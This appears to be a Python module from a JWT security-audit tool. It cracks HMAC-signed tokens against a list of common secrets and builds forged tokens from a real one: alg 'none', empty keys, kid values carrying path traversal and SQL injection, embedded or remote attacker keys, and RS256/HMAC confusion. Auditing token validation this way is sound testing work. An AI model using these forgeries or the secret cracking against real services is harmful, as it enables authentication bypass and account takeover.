"""Reading a JWT the way an attacker does, and forging the tokens the checks send.

Forgeries are built by hand with :mod:`hmac`: PyJWT rightly refuses to make most of
them (``alg: none`` with claims it did not sign, an empty HMAC key, a header that
names another algorithm than the signature's).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

__all__ = ["COMMON_SECRETS", "crack", "decode_part", "forgeries", "is_jwt", "sign"]

# Secrets found in tutorials, framework templates and leaked configuration; a token
# signed with one of them can be forged by anyone.
COMMON_SECRETS = (
    "secret",
    "Secret",
    "SECRET",
    "secretkey",
    "secret-key",
    "secret_key",
    "mysecret",
    "my-secret",
    "my_secret",
    "jwtsecret",
    "jwt-secret",
    "jwt_secret",
    "JWT_SECRET",
    "your-256-bit-secret",
    "a-string-secret-at-least-256-bits-long",
    "your-secret-key",
    "your_jwt_secret",
    "supersecret",
    "super-secret",
    "supersecretkey",
    "changeme",
    "change-me",
    "changethis",
    "CHANGE_ME",
    "password",
    "123456",
    "12345678",
    "test",
    "testing",
    "dev",
    "development",
    "key",
    "private",
    "default",
    "admin",
    "token",
    "access",
    "refresh",
    "accesssecret",
    "access-secret",
    "refreshsecret",
    "refresh-secret",
    "shhhhh",
    "shhhhhared-secret",
    "keyboard cat",
    "gsfd",
    "s3cr3t",
    "hello",
    "qwerty",
    "abc123",
    "letmein",
    "",
)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode_part(part: str) -> dict[str, Any] | None:
    """A base64url JSON object (a JWT's header or claims), or None."""
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, TypeError):
        return None
    return value if isinstance(value, dict) else None


def is_jwt(token: str) -> bool:
    parts = token.split(".")
    return (
        len(parts) == 3 and decode_part(parts[0]) is not None and decode_part(parts[1]) is not None
    )


def sign(header: dict[str, Any], claims: dict[str, Any], key: bytes | None) -> str:
    """A compact JWS; ``key=None`` leaves the signature empty. The digest follows the
    header's ``alg`` when it is HS384 or HS512, else SHA-256."""
    signing_input = f"{_b64(json.dumps(header).encode())}.{_b64(json.dumps(claims).encode())}"
    if key is None:
        return signing_input + "."
    digest = {"HS384": hashlib.sha384, "HS512": hashlib.sha512}.get(
        str(header.get("alg")), hashlib.sha256
    )
    return f"{signing_input}.{_b64(hmac.new(key, signing_input.encode(), digest).digest())}"


def crack(token: str) -> str | None:
    """The common secret that signed ``token`` (HS256/384/512), or None."""
    parts = token.split(".")
    header = decode_part(parts[0]) if len(parts) == 3 else None
    if header is None:
        return None
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}.get(
        str(header.get("alg"))
    )
    if digest is None:
        return None
    signing_input = f"{parts[0]}.{parts[1]}".encode()
    for secret in COMMON_SECRETS:
        mac = _b64(hmac.new(secret.encode(), signing_input, digest).digest())
        if hmac.compare_digest(mac, parts[2]):
            return secret
    return None


def forgeries(token: str) -> list[tuple[str, str]]:
    """``(what, forged token)`` for each forgery of the real ``token``: the same claims
    (the same user, session and lifetime), re-signed or re-headed."""
    head_part, claims_part, signature = token.split(".")
    header = decode_part(head_part) or {}
    claims = decode_part(claims_part) or {}
    own_key = b"bastion-audit-attacker-key"
    out: list[tuple[str, str]] = []
    for alg in ("none", "None", "NONE", "nOnE"):
        out.append((f"alg: {alg}, no signature", sign({**header, "alg": alg}, claims, None)))
    out.append(("the real header, signature removed", f"{head_part}.{claims_part}."))
    tampered = {**claims, "sub": f"{claims.get('sub', '')}0"}
    out.append(
        ("claims changed, the real signature kept", sign(header, tampered, None) + signature)
    )
    for alg in ("HS256", "HS384", "HS512"):
        out.append((f"{alg} with an empty key", sign({**header, "alg": alg}, claims, b"")))
    out.append(("HS256 with the attacker's key", sign({**header, "alg": "HS256"}, claims, own_key)))
    for kid in ("../../../../../../dev/null", "/dev/null", "' OR '1'='1", "0"):
        out.append(
            (f"kid {kid!r}, empty key", sign({**header, "alg": "HS256", "kid": kid}, claims, b""))
        )
    jwk = {"kty": "oct", "k": _b64(own_key)}
    out.append(
        (
            "an embedded jwk of the attacker's",
            sign({**header, "alg": "HS256", "jwk": jwk}, claims, own_key),
        )
    )
    for name in ("jku", "x5u"):
        out.append(
            (
                f"{name} naming the attacker's keys",
                sign({**header, "alg": "HS256", name: "http://127.0.0.1:9/keys"}, claims, own_key),
            )
        )
    # RS256 with the HMAC key as public key: an RS256 verifier handed a symmetric key.
    out.append(
        ("RS256 header over an HMAC signature", sign({**header, "alg": "RS256"}, claims, own_key))
    )
    return out
